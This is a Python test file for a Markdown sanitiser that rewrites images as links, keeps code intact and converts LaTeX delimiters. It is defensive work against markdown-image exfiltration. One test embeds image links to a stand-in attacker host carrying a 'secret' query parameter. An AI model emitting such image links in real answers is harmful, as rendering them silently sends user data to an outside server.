"""Safe Markdown: images become links, code stays as written, LaTeX delimiters become Streamlit's.

The expected outputs here were checked against micromark with the GFM, math and directive
extensions (the parser inside Streamlit's st.markdown): the input renders an image, the output
renders none, and every code span and block renders the same text. The browser test
(tests/browser/test_safe_markdown_browser.py) checks the same in Streamlit itself.
"""

from __future__ import annotations

import doctest

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import tschat.safe_markdown
from tschat.safe_markdown import safe_markdown

IMAGE = "http://h/i.png"

# (input, output): every input shows an image (or is a trap around one); no output does.
REWRITTEN = [
    ("![a](http://h/i.png)", "[image: a](http://h/i.png)"),
    ('![a](http://h/i.png "title")', '[image: a](http://h/i.png "title")'),
    ("![](http://h/i.png)", "[image](http://h/i.png)"),
    ("![a](<http://h/i i.png>)", "[image: a](<http://h/i i.png>)"),
    ("![a][r]\n\n[r]: http://h/i.png", "[image: a][r]\n\n[r]: http://h/i.png"),
    ("![a][]\n\n[a]: http://h/i.png", "[image: a][a]\n\n[a]: http://h/i.png"),
    ("![a]\n\n[a]: http://h/i.png", "[image: a][a]\n\n[a]: http://h/i.png"),
    ("[![i](http://h/i.png)](http://h/link)", "[[image: i](http://h/i.png)](http://h/link)"),
    (
        "![a ![b](http://h/b.png)](http://h/i.png)",
        "[image: a [image: b](http://h/b.png)](http://h/i.png)",
    ),
    ("!![a](http://h/i.png)", "\\![image: a](http://h/i.png)"),
    ("\\\\![a](http://h/i.png)", "\\\\[image: a](http://h/i.png)"),
    ("> quote ![a](http://h/i.png)", "> quote [image: a](http://h/i.png)"),
    ("# Title ![a](http://h/i.png)", "# Title [image: a](http://h/i.png)"),
    ("- item\n\n    ![x](http://h/i.png)", "- item\n\n    [image: x](http://h/i.png)"),
    ("<div>\n![x](http://h/i.png)\n</div>", "<div>\n\\![x](http://h/i.png)\n</div>"),
    ("$$\n![x](http://h/i.png)\n$$", "$$\n\\![x](http://h/i.png)\n$$"),
    # What hides a backtick from a code span: a link title, a literal autolink, inline HTML,
    # a directive's attributes (Streamlit writes :material/ as :material_ first).
    ('[a](u "`") ![i](http://h/i.png) `', '[a](u "`") [image: i](http://h/i.png) `'),
    ("http://x`y ![i](http://h/i.png) `z`", "http://x`y [image: i](http://h/i.png) `z`"),
    ('<span title="`">![i](http://h/i.png)`', '<span title="`">[image: i](http://h/i.png)`'),
    (
        ':material/x{a="`"} ![i](http://h/i.png) `',
        ':material/x{a="`"} [image: i](http://h/i.png) `',
    ),
    # Blocks that end a code fence, or hide its opening line, before the image.
    (
        "<div>\n```\n</div>\n\n![x](http://h/i.png)\n```",
        "<div>\n```\n</div>\n\n[image: x](http://h/i.png)\n```",
    ),
    ("$$\n```\n$$\n![x](http://h/i.png)\n```", "$$\n```\n$$\n[image: x](http://h/i.png)\n```"),
    (
        ":::note\n```\n:::\n![x](http://h/i.png)\n```",
        ":::note\n```\n:::\n[image: x](http://h/i.png)\n```",
    ),
    # A table row, a heading underline, a definition, a list after code: each ends a span.
    (
        "| `a | ![x](http://h/i.png) | b` |\n|---|---|---|",
        "| `a | \\![x](http://h/i.png) | b` |\n|---|---|---|",
    ),
    ("`a\n===\n![x](http://h/i.png) `", "`a\n===\n[image: x](http://h/i.png) `"),
    ("[r]: `\n![x](http://h/i.png) `", "[r]: `\n\\![x](http://h/i.png) `"),
    ("    code\n2)     ![x](http://h/i.png)", "    code\n2)     [image: x](http://h/i.png)"),
    (
        '- a\n<a href="`">\n\n![x](http://h/i.png)`',
        '- a\n<a href="`">\n\n[image: x](http://h/i.png)`',
    ),
]

# Code, escapes and non-images: nothing to change.
KEPT = [
    "`![x](http://h/i.png)`",
    "``a ` ![y](http://h/i.png) ``",
    "```md\n![x](http://h/i.png)\n```",
    "~~~~\n```\n![x](http://h/i.png)\n~~~~",
    "```\n![x](http://h/i.png)",  # a fence never closed runs to the end
    "1. step\n   ```\n   ![x](http://h/i.png)\n   ```",
    "> ```\n> ![x](http://h/i.png)\n> ```",
    "    ![x](http://h/i.png)",
    "\\![a](http://h/i.png)",
    "Plain text, a [link](http://h/page) and <http://h/auto>.",
    "Prices: $5 and $6.",
    "",
]


def test_doctests() -> None:
    assert doctest.testmod(tschat.safe_markdown).failed == 0


@pytest.mark.parametrize(("text", "expected"), REWRITTEN, ids=[t for t, _ in REWRITTEN])
def test_images_become_links(text: str, expected: str) -> None:
    assert safe_markdown(text) == expected


@pytest.mark.parametrize("text", KEPT, ids=KEPT)
def test_code_and_non_images_are_kept(text: str) -> None:
    assert safe_markdown(text) == text


def test_a_bracket_after_an_exclamation_mark_is_escaped_and_reads_the_same() -> None:
    # Not an image (no definition), but "!" before "[" is escaped anyway: it renders as "!".
    assert safe_markdown("Wow![1] and ![r]") == "Wow\\![1] and \\![r]"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Area \\(\\pi r^2\\) here", "Area $\\pi r^2$ here"),
        ("\\[\nE = mc^2\n\\]", "$$\nE = mc^2\n$$"),
        ("inline \\[x\\] too", "inline $$x$$ too"),
        ("cost \\(a\\$b\\)", "cost $$a\\$b$$"),  # a dollar inside needs a longer fence
        ("`\\(x\\)` and\n```\n\\[y\\]\n```", "`\\(x\\)` and\n```\n\\[y\\]\n```"),
        ("\\\\(not math\\\\)", "\\\\(not math\\\\)"),  # escaped backslashes
        ("open \\( only", "open \\( only"),
        ("empty \\(\\) stays", "empty \\(\\) stays"),
        ("$\\(x\\)$", "$\\(x\\)$"),  # already inside math
        ("\\(a\n\nb\\)", "\\(a\n\nb\\)"),  # across paragraphs
    ],
)
def test_latex_delimiters(text: str, expected: str) -> None:
    assert safe_markdown(text) == expected


def test_a_long_mixed_answer() -> None:
    answer = (
        "# Result\n\n"
        "Here is the chart: ![chart](https://evil.example/leak?q=secret)\n\n"
        "To embed an image in Markdown, write:\n\n"
        "```markdown\n![alt text](path/to/image.png)\n```\n\n"
        "or inline: `![alt](img.png)`.\n\n"
        "| column | value |\n|---|---|\n| pic | ![p](https://evil.example/p) |\n\n"
        "1. Step one\n   ```python\n   print('![x](y)')\n   ```\n"
        "2. The area is \\(\\pi r^2\\).\n"
    )
    assert safe_markdown(answer) == (
        "# Result\n\n"
        "Here is the chart: [image: chart](https://evil.example/leak?q=secret)\n\n"
        "To embed an image in Markdown, write:\n\n"
        "```markdown\n![alt text](path/to/image.png)\n```\n\n"
        "or inline: `![alt](img.png)`.\n\n"
        "| column | value |\n|---|---|\n| pic | [image: p](https://evil.example/p) |\n\n"
        "1. Step one\n   ```python\n   print('![x](y)')\n   ```\n"
        "2. The area is $\\pi r^2$.\n"
    )


MARKDOWNISH = st.lists(
    st.sampled_from(
        [*"![]()`$\\<>:{}|#-*> \n\tax1~", "```", "$$", ":::d", "http://", "\\(", "\\[", "    "]
    ),
    max_size=40,
).map("".join)


@settings(max_examples=300, deadline=None)
@given(text=MARKDOWNISH)
def test_rewriting_twice_changes_nothing_more(text: str) -> None:
    once = safe_markdown(text)
    assert safe_markdown(once) == once


@settings(max_examples=300, deadline=None)
@given(text=st.text(st.characters(blacklist_characters="!\\"), max_size=80))
def test_text_without_an_exclamation_mark_or_backslash_is_unchanged(text: str) -> None:
    assert safe_markdown(text) == text


@settings(max_examples=200, deadline=None)
@given(code=st.text(st.characters(blacklist_characters="`~\r"), max_size=80))
def test_anything_inside_a_fenced_block_is_kept(code: str) -> None:
    text = f"Before ![a]({IMAGE})\n\n```text\n{code}\n```\n"
    out = safe_markdown(text)
    assert out.endswith(f"```text\n{code}\n```\n")
    assert out.startswith(f"Before [image: a]({IMAGE})")


@settings(max_examples=200, deadline=None)
@given(
    words=st.lists(st.sampled_from(["a", "b", " ", "![", "](", ")", "`", "\\", "!"]), max_size=30)
)
def test_only_exclamation_marks_and_image_openers_change(words: list[str]) -> None:
    # Without LaTeX delimiters, the output is the input with backslashes inserted before "!",
    # "![" replaced by "[image" (+ ": ") and reference labels added.
    text = "".join(words)
    out = safe_markdown(text)
    simplified = out.replace("[image: ", "![").replace("[image", "![").replace("\\!", "!")
    assert simplified.replace("\\", "") == text.replace("\\", "")
